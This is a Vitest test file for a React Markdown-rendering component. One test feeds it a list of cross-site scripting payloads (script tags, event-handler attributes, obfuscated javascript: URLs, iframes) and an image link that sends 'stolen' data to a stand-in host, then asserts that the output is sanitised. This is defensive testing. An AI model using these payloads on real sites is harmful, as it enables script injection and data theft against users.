import { MantineProvider } from '@mantine/core'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { MarkdownText } from './markdown-text.tsx'

const shown = (text: string) =>
  renderToStaticMarkup(
    <MantineProvider>
      <MarkdownText text={text} />
    </MantineProvider>,
  ).replace(/<style[\s\S]*?<\/style>/g, '')

describe('an answer in Markdown', () => {
  it('[M-090] has a copy button for each block of code', () => {
    const html = shown('A:\n\n```ts\nconst a = 1 < 2\n```\n\nB:\n\n```\nnpm ci\n```\n\nand `inline`.')
    expect(html.match(/aria-label="Kopijuoti kodą"/g)).toHaveLength(2)
    expect(html).toContain('<pre><code>const a = 1 &lt; 2</code></pre>')
    expect(html).toContain('<span>ts</span>')
    expect(html).toContain('<code>inline</code>')
  })

  it('a block whose end has not come yet is code already', () => {
    expect(shown('```bash\nnpm ci')).toContain('npm ci')
  })

  it('[X1] runs, loads and sends nothing', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<iframe src="//evil.example"></iframe>',
      '<div style="position:fixed" id="root" onclick="alert(1)">a</div>',
      '[a](javascript:alert(1))',
      '[a](JaVaScRiPt:alert(1))',
      '[a](java&#10;script:alert(1))',
      '[a](data:text/html,<script>alert(1)</script>)',
      '[a](//evil.example)',
      '[a](/\\evil.example)',
      '![a](https://evil.example/?stolen=1)',
      '![a][b]\n\n[b]: https://evil.example/p.png',
      '<https://ok.example>',
      '<javascript:alert(1)>',
      '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
      '<details open ontoggle=alert(1)>',
      '# <b onmouseover=alert(1)>a</b>',
      '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    ]
    for (const text of hostile) {
      const html = shown(text)
      expect(html, text).not.toMatch(/<(?:script|img|iframe|svg|form|input|object|embed|style|link|details|b)\b/i)
      expect(html, text).not.toMatch(/<[^>]+\s(?:on\w+|style|id)=/i)
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href, text).toMatch(/^(?:https:\/\/|\/(?![/\\]))/)
    }
    expect(shown('[a](https://ok.example)')).toContain('<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">a</a>')
    expect(shown('[a](/admin/settings)')).toContain('<a href="/admin/settings">a</a>')
  })

  it('has no headings of the page, and no fields', () => {
    const html = shown('# A\n\n### B\n\n- [x] done\n- [ ] open')
    expect(html).not.toMatch(/<h\d|<input/)
    expect(html).toContain('☑')
    expect(html).toContain('☐')
  })
})
